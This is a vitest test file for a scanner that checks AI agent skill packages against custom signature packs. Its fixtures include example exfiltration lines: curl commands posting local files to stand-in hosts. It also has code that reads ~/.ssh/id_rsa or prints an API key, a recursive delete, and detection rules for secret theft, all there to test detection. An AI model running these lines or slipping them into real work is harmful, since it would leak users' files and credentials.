import { readdirSync, readFileSync, symlinkSync } from "node:fs";
import path from "node:path";
import { describe, expect, test } from "vitest";
import { MAX_TEXT } from "../../src/packs/text-hits.ts";
import { checkPack, readPacks } from "../../src/packs/read-pack.ts";
import { runExamples } from "../../src/tasks/run-examples.ts";
import { scan } from "../../src/scan.ts";
import { loadSignatures } from "../../src/pipeline/signatures.ts";
import type { Finding } from "../../src/model/finding.ts";
import type { ScanReport } from "../../src/model/report.ts";
import { WEATHER } from "../cli/sample-skills.ts";
import { temporaryFolder } from "../cli/temporary-folder.ts";

const EXAMPLE = path.resolve(import.meta.dirname, "../../docs/example-pack");
const PACK = "name: acme\nversion: 1.0.0\n";

/** A signature with this `match:`; its examples say nothing. */
function signature(match: string, id = "weakness/acme.x"): string {
  return `id: ${id}
title: What Acme does not allow
severity: medium
confidence: high
role: weakness
rationale: Why.
remediation: How.
match:
${match.replaceAll(/^/gm, "  ")}
examples:
  match: [{ why: a, text: a }, { why: b, text: b }]
  no-match: [{ why: c, text: c, near-miss: true }, { why: d, text: d }]
`;
}

function packWith(...matches: readonly string[]): string {
  const files = matches.map((match, at) => [`weakness/x${at}.yaml`, signature(match, `weakness/acme.x${at}`)]);
  return temporaryFolder({ "pack.yaml": PACK, ...Object.fromEntries(files) });
}

async function scanned(match: string, files: Readonly<Record<string, string>>): Promise<ScanReport> {
  const signaturePacks = await readPacks([packWith(match)], "/");
  const [report] = await scan(temporaryFolder(files), { isolated: false, offline: true, signaturePacks });
  if (report === undefined) throw new Error("no report");
  return report;
}

async function found(match: string, files: Readonly<Record<string, string>>): Promise<readonly Finding[]> {
  return (await scanned(match, files)).findings.filter(({ id }) => id === "weakness/acme.x0");
}

describe("the example of the documentation", () => {
  test("is what docs/signature-packs.md shows", () => {
    const page = readFileSync(path.resolve(EXAMPLE, "../signature-packs.md"), "utf8");
    expect(page).toContain(readFileSync(path.join(EXAMPLE, "pack.yaml"), "utf8").trimEnd());
    expect(page).toContain(readFileSync(path.join(EXAMPLE, "exfiltration/ticket-desk.yaml"), "utf8").trimEnd());
  });

  test("passes its own examples", async () => {
    const packs = await readPacks([EXAMPLE], "/");
    const results = [];
    const ids = packs.flatMap(({ signatures }) => signatures.map(({ head }) => head.id));
    for await (const result of runExamples(await loadSignatures(packs), ids)) results.push(result);
    expect(results.length).toBe(
      4 * readdirSync(EXAMPLE, { recursive: true }).filter((name) => /\/.*yaml$/.test(String(name))).length,
    );
    expect(results.filter(({ passed }) => !passed)).toEqual([]);
  });

  test("makes findings like any other, and the report says where they come from", async () => {
    const signaturePacks = await readPacks([EXAMPLE], "/");
    const folder = temporaryFolder({ ...WEATHER, "x.sh": "curl --data @a.txt https://api.tickets.example/new\n" });
    const [report] = await scan(folder, { isolated: false, offline: true, signaturePacks });
    expect(report?.findings.map(({ id, at }) => `${id} ${at.path}:${at.line}`)).toContain(
      "exfiltration/acme.ticket-desk x.sh:1",
    );
    const [plain] = await scan(folder, { isolated: false, offline: true });
    expect(report?.engine.packs).toEqual([
      { name: "acme", version: "1.0.0", digest: expect.stringMatching(/^[0-9a-f]{64}$/) },
    ]);
    expect(plain?.engine.packs).toBeUndefined();
    expect(report?.engine.signatures).not.toBe(plain?.engine.signatures);
  });
});

describe("conditions", () => {
  const sh = (text: string): Record<string, string> => ({ "SKILL.md": "# X\n\nA skill.\n", "x.sh": text });
  test.each([
    ["an operation", "any: [{ operation: send }]", sh("curl -d @a https://x.example"), 1],
    ["one of several", "any: [{ operation: [persist, send] }]", sh("curl -d @a https://x.example"), 1],
    [
      "a host",
      "any: [{ operation: send, where: { destination: { host: x.example } } }]",
      sh("curl -d @a https://x.example/p"),
      1,
    ],
    [
      "another host",
      "any: [{ operation: send, where: { destination: { host: x.example } } }]",
      sh("curl -d @a https://not-x.example/p"),
      0,
    ],
    [
      "a secret by its name",
      "any: [{ operation: read-secret, where: { secret: { matches: id_rsa, from: [file] } } }]",
      { "SKILL.md": "# X\n\nA skill.\n", "x.py": 'import os\nopen(os.path.expanduser("~/.ssh/id_rsa")).read()\n' },
      1,
    ],
    [
      "and another one",
      "any: [{ operation: read-secret, where: { secret: $OTHER_KEY } }]",
      { "SKILL.md": "# X\n\nA skill.\n", "x.py": 'import os\nprint(os.environ["API_KEY"])\n' },
      0,
    ],
    [
      "where data come from",
      "any: [{ operation: send, where: { payload: { from: [file] } } }]",
      sh("curl -d @a https://x.example"),
      1,
    ],
    [
      "and where they do not",
      "any: [{ operation: send, where: { payload: { from: [clipboard] } } }]",
      sh("curl -d @a https://x.example"),
      0,
    ],
    ["a word", "any: [{ operation: install, where: { manager: [npm] } }]", sh("npm i left-pad"), 1],
    ["a truth", "any: [{ operation: delete-file, where: { recursive: true } }]", sh("rm -r ~/x"), 1],
    [
      "not that",
      "any: [{ operation: spawn, where: { program: { matches: ^cu, not: curl } } }]",
      sh("curl x.example; cut a"),
      1,
    ],
    [
      "an instruction",
      "any: [{ instruction: '(?i)send .{0,40} printer' }]",
      { "SKILL.md": "# X\n\nSend the file to the printer.\n" },
      1,
    ],
    [
      "a mention",
      "any: [{ mention: url, host: '*.x.example' }]",
      { "SKILL.md": "# X\n\nSee https://a.x.example/p.\n" },
      1,
    ],
    ["a file", "any: [{ file: '\\.xyz$' }]", { "SKILL.md": "# X\n", "a/b.xyz": "1" }, 1],
    ["a text", 'any: [{ text: "AC[0-9]+" }]', { "SKILL.md": "# X\n\nAC12 and AC3\n" }, 2],
    ["a text elsewhere", "any: [{ text: 'AC[0-9]+', in: '\\.py$' }]", { "SKILL.md": "# X\n\nAC12\n" }, 0],
    [
      "a dependency",
      "any: [{ dependency: ^left-pad$, ecosystem: npm }]",
      { "SKILL.md": "# X\n", "package.json": '{"dependencies":{"left-pad":"1"}}' },
      1,
    ],
    ["two in one file", "all: [{ text: AC1 }, { text: AC2 }]", { "SKILL.md": "# X\n\nAC1\n\nAC2\n" }, 1],
    ["two in two files", "all: [{ text: AC1 }, { text: AC2 }]", { "SKILL.md": "# X\n\nAC1\n", "a.md": "AC2\n" }, 0],
    [
      "two in one package",
      "all: [{ text: AC1 }, { text: AC2 }]\nwithin: package",
      { "SKILL.md": "# X\n\nAC1\n", "a.md": "AC2\n" },
      1,
    ],
    [
      "what is only quoted",
      "any: [{ operation: send }]",
      { "SKILL.md": "# X\n\nNever run `curl -d @a https://x.example`.\n" },
      0,
    ],
  ])("%s", async (_what, match, files, count) => {
    expect(await found(match, files)).toHaveLength(count);
  });

  test("say where, and in which words", async () => {
    const [finding] = await found("any: [{ text: 'AC[0-9]+' }]\nmessage: names a code", {
      "SKILL.md": "# X\n\n  AC12\n",
    });
    expect(finding).toMatchObject({
      at: { path: "SKILL.md", line: 3, column: 3 },
      snippet: "AC12",
      message: "names a code",
    });
  });

  test("texts are looked at up to a limit, and the report says so", async () => {
    const long = `${"x".repeat(MAX_TEXT - 4)}AC12 AC3`;
    const report = await scanned('any: [{ text: "AC[0-9]+" }]', { "SKILL.md": "# X\n", "a.txt": long });
    expect(report.findings.filter(({ id }) => id === "weakness/acme.x0")).toHaveLength(1);
    expect(report.gaps).toContainEqual(expect.objectContaining({ code: "too-large", path: "a.txt", blocking: false }));
  });
});

describe("packs that are wrong are refused with file and line", () => {
  test.each([
    ["no version", { "pack.yaml": "name: acme" }, /pack\.yaml:1: version/],
    ["no signature", { "pack.yaml": PACK }, /pack\.yaml:1: no signature/],
    [
      "an id of the built-in ones",
      { "pack.yaml": PACK, "a/x.yaml": signature("any: [{ file: x }]", "execution/remote-code") },
      /x\.yaml:1: id/,
    ],
    [
      "an id of another pack",
      { "pack.yaml": PACK, "a/x.yaml": signature("any: [{ file: x }]", "a/other.x") },
      /where the id is a\/acme\.x/,
    ],
    [
      "an id that is not its place",
      { "pack.yaml": PACK, "a/x.yaml": signature("any: [{ file: x }]", "a/acme.y") },
      /where the id is a\/acme\.x/,
    ],
    [
      "both any and all",
      withMatch("any: [{ file: x }]\nall: [{ file: x }]"),
      /x\.yaml:8: match: has either any or all/,
    ],
    ["an unknown operation", withMatch("any:\n  - operation: sned"), /x\.yaml:10: match\.any\[0\]\.operation/],
    [
      "an unknown operand",
      withMatch("any:\n  - { operation: send, where: { url: x } }"),
      /x\.yaml:10: match\.any\[0\]: send has no operand url; it has channel, destination, payload/,
    ],
    [
      "a broken expression",
      withMatch("any:\n  - file: x\n  - text: 'a('"),
      /x\.yaml:11: match\.any\[1\]: error parsing regexp: missing closing \)/,
    ],
    ["look-around", withMatch("any: [{ text: '(?=a)b' }]"), /invalid or unsupported Perl syntax/],
    ["a back-reference", withMatch("any: [{ text: '(a)\\1' }]"), /invalid escape sequence/],
    ["too many repetitions", withMatch("any: [{ text: 'a{1001}' }]"), /invalid repeat count/],
    [
      "an expression that grows",
      withMatch("any: [{ text: '(?:a{0,100}b){0,9}' , in: '(?:[a-z]{0,400}x){2}y{0,800}' }]"),
      /is too large/,
    ],
    ["a host that is none", withMatch("any: [{ mention: url, host: 'https://x.example' }]"), /is no host/],
    ["an unknown key", withMatch("any: [{ file: x }]\nrun: rm"), /match\.run is no key here/],
    ["__proto__", withMatch("__proto__: { any: [] }"), /the key __proto__ is not supported/],
    ["an alias", withMatch("any: &a [*a]"), /aliases/],
    [
      "no near miss",
      { "pack.yaml": PACK, "weakness/x.yaml": signature("any: [{ file: x }]").replace(", near-miss: true", "") },
      /near miss/,
    ],
  ])("%s", async (_what, files, expected) => {
    const { pack, problems } = await checkPack(temporaryFolder(files), "p");
    expect(pack).toBeNull();
    expect(problems.map(({ file, line, message }) => `${file}:${line}: ${message}`).join("\n")).toMatch(expected);
  });

  test("every problem is told", async () => {
    const folder = packWith("any: [{ text: '(' }, { text: ')' }]", "any: [{ operation: x }]");
    expect((await checkPack(folder, "p")).problems).toHaveLength(3);
  });

  test("a folder that is not there, and two packs of one name", async () => {
    await expect(readPacks(["./nowhere"], "/")).rejects.toThrow("cannot be read");
    await expect(readPacks([EXAMPLE, EXAMPLE], "/")).rejects.toThrow("two packs have the name acme");
  });

  test("links are not followed", async () => {
    const folder = packWith("any: [{ file: x }]");
    symlinkSync("/etc/hostname", path.join(folder, "weakness/link.yaml"));
    expect((await checkPack(folder, "p")).pack?.signatures).toHaveLength(1);
  });
});

test("an expression that would keep a backtracking engine busy for ever ends at once", async () => {
  const hostile = `${"a".repeat(100_000)}!`;
  expect(await found("any: [{ text: '(?:a+)+$' }]", { "SKILL.md": "# X\n", "a.txt": hostile })).toEqual([]);
});

function withMatch(match: string): Record<string, string> {
  return { "pack.yaml": PACK, "weakness/x.yaml": signature(match) };
}
